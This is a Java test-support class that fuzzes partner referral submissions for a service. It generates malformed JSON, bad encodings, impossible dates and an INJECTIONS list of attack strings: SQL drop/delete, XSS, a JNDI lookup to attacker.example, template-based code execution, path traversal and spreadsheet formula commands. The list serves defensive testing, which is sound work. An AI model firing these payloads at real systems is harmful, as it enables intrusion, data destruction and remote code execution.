package uk.frontdoor.infra.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/**
 * Generated partner submissions, good and hostile, drawn with the tests' own seeded generators ({@link Gen})
 * from a valid submission:
 * malformed JSON, wrong types, huge strings, deep nesting, duplicate keys, control characters, invalid
 * Unicode (escaped lone surrogates and raw bytes that are not UTF-8), SQL, script and template injection,
 * invalid codes and impossible dates. Each input says whether the service must refuse it ({@link
 * Input#mustRefuse}) or may take it (a good one must be taken), so a test can check the answer.
 *
 * <p>Draws are reproducible: the same seed gives the same inputs in the same order.
 */
final class HostileSubmissions {

    /**
     * One generated body.
     *
     * @param kind       what was done to it, for the failure message (never the body: it may be huge)
     * @param body       the bytes to send
     * @param mustRefuse the service must answer 4xx (HTTP) or dead-letter it (Kafka)
     * @param good       a valid submission: the service must store it
     */
    record Input(String kind, byte[] body, boolean mustRefuse, boolean good) {
    }

    /** What a mutation does to the submission; {@code refuses} when the result can never be valid. */
    private record Mutation(String kind, boolean refuses, Function<Draft, Draft> apply, String field) {

        /** A mutation of the body as a whole (or of several fields). */
        Mutation(String kind, boolean refuses, Function<Draft, Draft> apply) {
            this(kind, refuses, apply, null);
        }
    }

    /** A submission being mutated: as a tree until a mutation needs raw text or bytes. */
    private static final class Draft {
        ObjectNode tree;
        byte[] bytes;
        /** Set by a mutation whose verdict depends on what it found (a control character inside a value or at its end). */
        boolean mustRefuse;

        Draft(ObjectNode tree) {
            this.tree = tree;
        }

        byte[] bytes(ObjectMapper json) {
            if (bytes == null) {
                try {
                    bytes = json.writeValueAsBytes(tree);
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }
            return bytes;
        }
    }

    /** The text fields of a submission, by path. */
    static final List<String> TEXT_FIELDS = List.of("submissionId", "referralSource", "referrer.name", "referrer.role",
            "referrer.agency", "referrer.phone", "referrer.email", "child.givenName", "child.familyName", "child.sex",
            "child.nhsNumber", "child.address.line1", "child.address.town", "child.address.postcode",
            "child.ethnicity", "child.firstLanguage", "household[0].givenName", "household[0].familyName",
            "household[0].relationship", "concerns.narrative", "consent.status", "consent.reason", "actionsTaken");
    static final List<String> ALL_FIELDS;

    static {
        List<String> all = new ArrayList<>(TEXT_FIELDS);
        all.addAll(List.of("", "referrer", "child", "child.address", "child.dateOfBirth", "child.interpreterNeeded",
                "household", "household[0]", "household[0].dateOfBirth", "concerns", "concerns.factors",
                "concerns.factors[0]", "awareSince", "consent", "immediateRisk"));
        ALL_FIELDS = List.copyOf(all);
    }

    /** Strings an attacker tries: SQL, script, templates, JNDI lookups, path traversal, header splitting. */
    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE contact_registry; --",
            "Robert'); DELETE FROM domainevententry; --",
            "1' OR '1'='1",
            "\" OR 1=1 --",
            "admin'/*",
            "1; SELECT pg_sleep(10)",
            "$$; COPY contact_registry TO PROGRAM 'id'; $$",
            "<script>alert('xss')</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)",
            "\"><svg/onload=alert(1)>",
            "${jndi:ldap://attacker.example/a}",
            "${7*7}",
            "{{7*7}}",
            "#{7*7}",
            "[[${7*7}]]",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "../../../../etc/passwd",
            "%0d%0aSet-Cookie: a=b",
            "%s%s%s%n",
            "{0}{1}",
            "\\u0000",
            "<!--#exec cmd=\"id\"-->",
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0");

    /** Characters that may not be in a single-line field (and most not in any). */
    static final List<String> CONTROL = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000B", "\u000C", "\u001B",
            "\u001F", "\u007F", "\u0085", "\u2028", "\u2029", "\r\n", "\n", "\t");

    /** Raw byte sequences that are not UTF-8: spliced into the body, not escaped. */
    static final List<byte[]> INVALID_UTF8 = List.of(
            new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xFE, (byte) 0xFF}, new byte[]{(byte) 0xC0, (byte) 0xAF},
            new byte[]{(byte) 0xC3, (byte) 0x28}, new byte[]{(byte) 0xE2, (byte) 0x82},
            new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[]{(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, new byte[]{(byte) 0x80},
            new byte[]{(byte) 0xE0, (byte) 0x80, (byte) 0xAF});

    /** Escapes that are valid JSON but not valid Unicode text: lone or reversed surrogates. */
    static final List<String> LONE_SURROGATES = List.of("\\ud800", "\\udfff", "\\udc00\\ud800", "a\\ud83d", "\\ud83dx");

    private final ObjectMapper json;
    private final Gen<List<Mutation>> hostile;
    private final Gen<Mutation> good;
    private final Gen<Boolean> goodOrNot;

    /** @param goodShare the share of inputs, 0 to 100, left valid (they must all be stored) */
    HostileSubmissions(ObjectMapper json, int goodShare) {
        this.json = json;
        Gen<Mutation> any = Gen.frequency(List.of(
                Gen.weight(12, malformed()), Gen.weight(10, wrongType()), Gen.weight(6, huge()), Gen.weight(4, deep()),
                Gen.weight(6, duplicateKey()), Gen.weight(10, controlCharacters()), Gen.weight(8, invalidUtf8()),
                Gen.weight(6, loneSurrogate()), Gen.weight(12, injection()), Gen.weight(12, invalidCode()),
                Gen.weight(14, badDate())));
        this.hostile = any.list(1, 3);
        this.good = goodVariation();
        this.goodOrNot = Gen.ints(0, 99).map(n -> n < goodShare);
    }

    /**
     * The next input, made from {@code submission} (a valid submission with its own submission id, which it keeps
     * unless a mutation makes it invalid).
     */
    Input next(ObjectNode submission, Random random) {
        // Mutations change the tree they are given: each draw works on its own copy, so that a caller drawing
        // again (the Kafka test draws again for a body too large to publish) starts from the submission itself,
        // not from what the draw before left of it. A good draw made from a hostile one's leftovers was stored
        // as "good" and refused (seed -5078500098613771676, record 9111).
        ObjectNode base = submission.deepCopy();
        if (goodOrNot.draw(random)) {
            Mutation variation = good.draw(random);
            Draft draft = variation.apply().apply(new Draft(base));
            return new Input("good: " + variation.kind(), draft.bytes(json), false, true);
        }
        List<Mutation> mutations = hostile.draw(random);
        Draft draft = new Draft(base);
        boolean refuses = false;
        List<String> kinds = new ArrayList<>();
        java.util.Set<String> touched = new java.util.HashSet<>();
        for (Mutation mutation : mutations) {
            if (draft.tree == null) {
                // Already raw bytes, not a submission: later mutations have nothing to work on.
                break;
            }
            if (mutation.field() != null && touched.stream().anyMatch(field -> overlap(field, mutation.field()))) {
                // A second value for the same field (or one around it) would overwrite the first, and its verdict.
                continue;
            }
            if (mutation.field() != null) {
                touched.add(mutation.field());
            }
            draft = mutation.apply().apply(draft);
            refuses |= mutation.refuses() || draft.mustRefuse;
            kinds.add(mutation.kind());
        }
        return new Input(String.join(" + ", kinds), draft.bytes(json), refuses, false);
    }

    private static boolean overlap(String a, String b) {
        return a.equals(b) || a.startsWith(b + ".") || a.startsWith(b + "[") || b.startsWith(a + ".") || b.startsWith(a + "[");
    }

    // ---- good variations: the service must take every one of these

    private Gen<Mutation> goodVariation() {
        Gen<String> names = Gen.of("Zoë", "Siân", "Łukasz", "O'Neill", "Nguyễn", "Ana-María", "Ødegaard",
                "Jean Luc", "Mary-Jane", "D’Arcy", "Þór", "Ahmed", "张伟", "Мария", "St. John");
        Gen<String> narrative = Gen.strings(Gen.range(' ', '~') + "\n\té€£", 10, 2000).filter(s -> s.strip().length() >= 10);
        return Gen.oneOf(
                Gen.just(new Mutation("as it is", false, d -> d)),
                names.map(name -> new Mutation("given name with letters of any alphabet", false, d -> {
                    ((ObjectNode) d.tree.get("child")).put("givenName", name);
                    return d;
                })),
                narrative.map(text -> new Mutation("printable narrative", false, d -> {
                    ((ObjectNode) d.tree.get("concerns")).put("narrative", text);
                    return d;
                })),
                Gen.of(INJECTIONS).filter(s -> !s.contains("\\u0000")).map(text ->
                        new Mutation("injection as narrative (text like any other)", false, d -> {
                            // A narrative is at least 10 characters.
                            ((ObjectNode) d.tree.get("concerns")).put("narrative", "The referrer wrote: " + text);
                            return d;
                        })),
                Gen.just(new Mutation("no household and no referrer contact details", false, d -> {
                    d.tree.putArray("household");
                    ((ObjectNode) d.tree.get("referrer")).remove(List.of("phone", "email"));
                    return d;
                })));
    }

    // ---- hostile mutations

    private Gen<Mutation> malformed() {
        Gen<Double> where = Gen.ints(0, 999).map(perMille -> perMille / 1000.0);
        return Gen.oneOf(
                where.map(at -> new Mutation("raw: truncated", true, d -> {
                    byte[] whole = d.bytes(json);
                    d.bytes = java.util.Arrays.copyOf(whole, Math.max(0, (int) (whole.length * at)));
                    d.tree = null;
                    return d;
                })),
                Gen.of("", " ", "null", "[]", "123", "\"text\"", "true", "{", "}", "{]", "{\"a\":}", "{,}",
                        "{'submissionId':'x'}", "{\"a\":1,}", "/* comment */{}", "{\"a\":NaN}", "{\"a\":01}",
                        "{\"a\":\"unterminated}", "\uFEFF{}", "{\"a\" 1}", "[{}, {}]", "{}{}").map(text ->
                        new Mutation("raw: not a JSON object", true, d -> {
                            d.bytes = text.getBytes(StandardCharsets.UTF_8);
                            d.tree = null;
                            return d;
                        })),
                Gen.of("garbage", "}", ",", "]", "{}", "\u0000", " x").map(tail ->
                        new Mutation("raw: content after the object", true, d -> {
                            d.bytes = concat(d.bytes(json), tail.getBytes(StandardCharsets.UTF_8));
                            d.tree = null;
                            return d;
                        })),
                Gen.ints(0, 10_000).map(seed -> new Mutation("raw: random bytes", true, d -> {
                    Random random = new Random(seed);
                    byte[] noise = new byte[1 + random.nextInt(300)];
                    random.nextBytes(noise);
                    noise[0] = (byte) '{';
                    d.bytes = noise;
                    d.tree = null;
                    return d;
                })));
    }

    private Gen<Mutation> wrongType() {
        Gen<JsonNode> values = Gen.of(
                json.getNodeFactory().numberNode(42), json.getNodeFactory().numberNode(-1.5e308),
                json.getNodeFactory().numberNode(new java.math.BigInteger("9".repeat(400))),
                json.getNodeFactory().booleanNode(true), json.createArrayNode().add("x").add(1),
                json.createObjectNode().put("x", 1), json.createArrayNode(), json.createObjectNode());
        return Gen.combine(Gen.of(ALL_FIELDS).filter(f -> !f.isEmpty()), values,
                (field, value) -> new Mutation("wrong type at " + field, refusesAnyOf(field, value), d -> {
                    put(d.tree, field, value.deepCopy());
                    return d;
                }, field));
    }

    /**
     * Whether a value of another type is always refused at this field: not a boolean where a boolean belongs,
     * an empty list where a list belongs, or an object where an object belongs (its required members decide).
     */
    private static boolean refusesAnyOf(String field, JsonNode value) {
        return !(value.isBoolean() && (field.equals("immediateRisk") || field.equals("child.interpreterNeeded")))
                && !(value.isArray() && value.isEmpty() && (field.equals("household") || field.equals("concerns.factors")))
                && !(value.isObject() && (field.equals("referrer") || field.equals("child.address")
                || field.equals("household[0]") || field.equals("consent") || field.equals("concerns")
                || field.equals("child")));
    }

    private Gen<Mutation> huge() {
        // Longer than any field may be, and short enough for one Kafka message (1 MB) in three-byte characters.
        Gen<Integer> length = Gen.ints(20_001, 280_000);
        return Gen.oneOf(
                Gen.combine(Gen.of(TEXT_FIELDS), length, Gen.of('A', 'é', '€', '\u4E2D'),
                        (field, n, c) -> new Mutation("huge string at " + field, true, d -> {
                            put(d.tree, field, json.getNodeFactory().textNode(String.valueOf(c).repeat(n)));
                            return d;
                        }, field)),
                Gen.ints(31, 20_000).map(n -> new Mutation("huge household", true, d -> {
                    ArrayNode household = d.tree.putArray("household");
                    for (int i = 0; i < n; i++) {
                        household.addObject().put("relationship", "SIBLING");
                    }
                    return d;
                }, "household")),
                Gen.ints(31, 50_000).map(n -> new Mutation("huge list of factors", true, d -> {
                    ArrayNode factors = SHARED.createArrayNode();
                    put(d.tree, "concerns.factors", factors);
                    for (int i = 0; i < n; i++) {
                        factors.add("3A");
                    }
                    return d;
                }, "concerns.factors")),
                Gen.ints(100, 20_000).map(n -> new Mutation("thousands of unknown fields", true, d -> {
                    for (int i = 0; i < n; i++) {
                        d.tree.put("unknown" + i, i);
                    }
                    return d;
                })));
    }

    private Gen<Mutation> deep() {
        return Gen.combine(Gen.ints(200, 100_000), Gen.of('[', '{'),
                        Gen.of("concerns.narrative", "child", "household", ""),
                (depth, bracket, field) -> new Mutation("raw: nested " + depth + " deep at " + field, true, d -> {
                    String open = bracket == '[' ? "[" : "{\"a\":";
                    String close = bracket == '[' ? "]" : "}";
                    String nested = open.repeat(depth) + "1" + close.repeat(depth);
                    if (field.isEmpty()) {
                        d.bytes = nested.getBytes(StandardCharsets.UTF_8);
                    } else {
                        String marker = "\"NESTED-MARKER\"";
                        put(d.tree, field, json.getNodeFactory().textNode("NESTED-MARKER"));
                        String text = new String(d.bytes(json), StandardCharsets.UTF_8).replace(marker, nested);
                        d.bytes = text.getBytes(StandardCharsets.UTF_8);
                    }
                    d.tree = null;
                    return d;
                }));
    }

    private Gen<Mutation> duplicateKey() {
        return Gen.combine(Gen.of("submissionId", "referralSource", "child", "awareSince",
                                "immediateRisk", "nhsNumber", "givenName", "postcode", "narrative", "status"),
                        Gen.of("\"9434765919\"", "\"6\"", "null", "1", "{}", "\"x\""),
                (key, value) -> new Mutation("raw: duplicate key " + key, true, d -> {
                    String text = new String(d.bytes(json), StandardCharsets.UTF_8);
                    String quoted = "\"" + key + "\":";
                    int at = text.indexOf(quoted);
                    if (at < 0) {
                        at = 1;
                        text = text.substring(0, 1) + quoted + value + "," + text.substring(1);
                    }
                    // The key again, just before its first appearance, in the same object.
                    text = text.substring(0, at) + quoted + value + "," + text.substring(at);
                    d.bytes = text.getBytes(StandardCharsets.UTF_8);
                    d.tree = null;
                    return d;
                }));
    }

    private Gen<Mutation> controlCharacters() {
        List<String> singleLine = TEXT_FIELDS.stream().filter(f -> !f.equals("concerns.narrative")
                && !f.equals("actionsTaken") && !f.equals("consent.reason")).toList();
        return Gen.combine(Gen.of(singleLine), Gen.of(CONTROL), Gen.ints(0, 5),
                (field, control, position) -> new Mutation("control character in " + field, false, d -> {
                    JsonNode current = get(d.tree, field);
                    String text = current != null && current.isTextual() ? current.textValue() : "x";
                    int at = Math.min(position, text.length());
                    // Surrounding whitespace is trimmed (String.strip): a line feed before or after the value is not in it.
                    boolean inside = at > 0 && at < text.length();
                    d.mustRefuse |= inside || !control.strip().isEmpty();
                    put(d.tree, field, json.getNodeFactory().textNode(text.substring(0, at) + control + text.substring(at)));
                    return d;
                }, field));
    }

    private Gen<Mutation> invalidUtf8() {
        return Gen.combine(Gen.of(INVALID_UTF8), Gen.of("concerns.narrative", "child.givenName",
                        "child.address.line1", "referrer.name", "submissionId"),
                (bad, field) -> new Mutation("raw: bytes that are not UTF-8 in " + field, true, d -> {
                    put(d.tree, field, json.getNodeFactory().textNode("BYTES-MARKER"));
                    byte[] whole = d.bytes(json);
                    byte[] marker = "BYTES-MARKER".getBytes(StandardCharsets.UTF_8);
                    int at = indexOf(whole, marker);
                    var out = new ByteArrayOutputStream();
                    out.write(whole, 0, at);
                    out.writeBytes("Sam".getBytes(StandardCharsets.UTF_8));
                    out.writeBytes(bad);
                    out.write(whole, at + marker.length, whole.length - at - marker.length);
                    d.bytes = out.toByteArray();
                    d.tree = null;
                    return d;
                }));
    }

    private Gen<Mutation> loneSurrogate() {
        return Gen.combine(Gen.of(LONE_SURROGATES), Gen.of(TEXT_FIELDS),
                (escape, field) -> new Mutation("raw: lone surrogate escape in " + field, true, d -> {
                    put(d.tree, field, json.getNodeFactory().textNode("SURROGATE-MARKER"));
                    String text = new String(d.bytes(json), StandardCharsets.UTF_8)
                            .replace("SURROGATE-MARKER", "Sam" + escape + "son");
                    d.bytes = text.getBytes(StandardCharsets.UTF_8);
                    d.tree = null;
                    return d;
                }));
    }

    private Gen<Mutation> injection() {
        // Free-text fields may hold any of these (refused or not, they must never run or come back);
        // coded and patterned fields must refuse them.
        List<String> coded = List.of("submissionId", "referralSource", "child.sex", "child.nhsNumber",
                "child.address.postcode", "child.ethnicity", "household[0].relationship", "consent.status",
                "concerns.factors[0]", "awareSince", "child.dateOfBirth", "referrer.email");
        List<String> fields = new ArrayList<>(TEXT_FIELDS);
        fields.addAll(List.of("concerns.factors[0]", "awareSince", "child.dateOfBirth"));
        Gen<String> fieldGen = Gen.of(fields);
        Gen<String> payloads = Gen.of(INJECTIONS);
        // An attack string that is also a valid submission id ("../../../../etc/passwd": letters, digits and
        // . _ : / -) is an id like any other: it is not refused, and stored under it a contact would escape the
        // run's bookkeeping by id (the full-size Kafka run waited 15 minutes for such a "lost" record).
        Gen<String> idPayloads = payloads.filter(payload -> !SUBMISSION_ID.matcher(payload).matches());
        return random -> {
            String field = fieldGen.draw(random);
            String payload = (field.equals("submissionId") ? idPayloads : payloads).draw(random);
            return new Mutation("injection in " + field, coded.contains(field), d -> {
                put(d.tree, field, json.getNodeFactory().textNode(payload));
                return d;
            }, field);
        };
    }

    /** The submission schema's pattern for a submission id. */
    private static final java.util.regex.Pattern SUBMISSION_ID = java.util.regex.Pattern.compile("[A-Za-z0-9._:/-]{1,100}");

    private Gen<Mutation> invalidCode() {
        Gen<String> junk = Gen.oneOf(Gen.of("", " ", "06", "11x", "0", "-1", "male", "Male",
                        "UNKNOWN_VALUE", "3a", "null", "ÆØÅ", "WB RI", "9 9"),
                Gen.strings(Gen.range('a', 'z') + Gen.range('A', 'Z') + Gen.range('0', '9'), 1, 12).map(s -> "Q" + s));
        return Gen.combine(Gen.of("referralSource", "child.sex", "child.ethnicity", "consent.status",
                        "household[0].relationship", "concerns.factors[0]", "concerns.indicators[0]", "child.nhsNumber"), junk,
                // A blank optional code may be read as none given: only a non-blank one must be refused.
                (field, value) -> new Mutation("invalid code at " + field, !value.isBlank(), d -> {
                    put(d.tree, field, json.getNodeFactory().textNode(value));
                    return d;
                }, field));
    }

    private Gen<Mutation> badDate() {
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        Instant now = Instant.now();
        Gen<Integer> days = Gen.ints(2, 40_000);
        return Gen.oneOf(
                days.map(n -> new Mutation("date of birth in the future", true, d -> {
                    put(d.tree, "child.dateOfBirth", text(today.plusDays(n).toString()));
                    return d;
                }, "child.dateOfBirth")),
                days.map(n -> new Mutation("aware since in the future", true, d -> {
                    d.tree.put("awareSince", now.plus(n, ChronoUnit.DAYS).truncatedTo(ChronoUnit.SECONDS).toString());
                    return d;
                }, "awareSince")),
                // Up to 10 months before the (expected) birth is a pre-birth concern, allowed; longer is not.
                Gen.ints(320, 40_000).map(n -> new Mutation("aware since long before the child was born", true, d -> {
                    // Another mutation may have spoilt the date of birth: then the submission is refused for that.
                    LocalDate born;
                    try {
                        born = LocalDate.parse(d.tree.path("child").path("dateOfBirth").asText());
                    } catch (java.time.format.DateTimeParseException notADate) {
                        born = today.minusYears(5);
                    }
                    d.tree.put("awareSince", born.minusDays(n).atStartOfDay().toInstant(ZoneOffset.UTC).toString());
                    return d;
                }, "awareSince")),
                days.map(n -> new Mutation("household member born in the future", true, d -> {
                    put(d.tree, "household[0].dateOfBirth", text(today.plusDays(n).toString()));
                    return d;
                }, "household")),
                Gen.ints(19, 300).map(years -> new Mutation("child born too long ago", true, d -> {
                    put(d.tree, "child.dateOfBirth", text(today.minusYears(years).toString()));
                    return d;
                }, "child.dateOfBirth")),
                Gen.of("2023-02-30", "2023-13-01", "2023-00-10", "31/12/2020", "2020-1-1", "2020-01-01T00:00:00Z",
                        "0000-01-01", "-0001-01-01", "+10000-01-01", "20200101", "2020-W01-1", "yesterday", "2021-02-29")
                        .map(bad -> new Mutation("impossible date of birth", true, d -> {
                            put(d.tree, "child.dateOfBirth", text(bad));
                            return d;
                        }, "child.dateOfBirth")),
                Gen.of("2026-11-20T25:00:00Z", "2026-11-20T23:59:60Z", "2026-11-20", "2026-11-20T21:40:00+25:00",
                        "2026-02-30T10:00:00Z", "1970-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z", "now",
                        "2026-11-20 21:40:00", "1e10")
                        .map(bad -> new Mutation("impossible awareSince", true, d -> {
                            d.tree.put("awareSince", bad);
                            return d;
                        }, "awareSince")),
                // An expected date up to 14 days past is a pregnancy not yet post-term, allowed.
                Gen.ints(15, 3_000).map(n -> new Mutation("unborn child expected long ago", true, d -> {
                    put(d.tree, "child.expectedDateOfBirth", text(today.minusDays(n).toString()));
                    ((ObjectNode) d.tree.get("child")).remove(List.of("dateOfBirth", "nhsNumber"));
                    return d;
                }, "child")));
    }

    // ---- paths in a submission tree: "child.address.postcode", "household[0].dateOfBirth", "" for the root

    static JsonNode get(ObjectNode root, String path) {
        JsonNode node = root;
        for (String step : steps(path)) {
            if (node == null) {
                return null;
            }
            node = step.matches("\\d+") ? node.get(Integer.parseInt(step)) : node.get(step);
        }
        return node;
    }

    static void put(ObjectNode root, String path, JsonNode value) {
        List<String> steps = steps(path);
        JsonNode parent = root;
        for (int i = 0; i < steps.size() - 1; i++) {
            String step = steps.get(i);
            String next = steps.get(i + 1);
            JsonNode child = step.matches("\\d+") ? parent.get(Integer.parseInt(step)) : parent.get(step);
            boolean index = next.matches("\\d+");
            if (child == null || (index ? !child.isArray() : !child.isObject())) {
                child = next.matches("\\d+") ? SHARED.createArrayNode() : SHARED.createObjectNode();
                set(parent, step, child);
            }
            if (child.isArray() && next.matches("\\d+") && child.size() <= Integer.parseInt(next)) {
                ((ArrayNode) child).addObject();
            }
            parent = child;
        }
        set(parent, steps.get(steps.size() - 1), value);
    }

    private static final ObjectMapper SHARED = new ObjectMapper();

    private static JsonNode text(String value) {
        return SHARED.getNodeFactory().textNode(value);
    }

    private static void set(JsonNode parent, String step, JsonNode value) {
        if (step.matches("\\d+")) {
            ArrayNode array = (ArrayNode) parent;
            int index = Integer.parseInt(step);
            while (array.size() <= index) {
                array.addNull();
            }
            array.set(index, value);
        } else {
            ((ObjectNode) parent).set(step, value);
        }
    }

    private static List<String> steps(String path) {
        List<String> steps = new ArrayList<>();
        for (String part : path.split("\\.")) {
            int bracket = part.indexOf('[');
            if (bracket < 0) {
                steps.add(part);
            } else {
                steps.add(part.substring(0, bracket));
                steps.add(part.substring(bracket + 1, part.length() - 1));
            }
        }
        return steps;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("marker not found");
    }
}
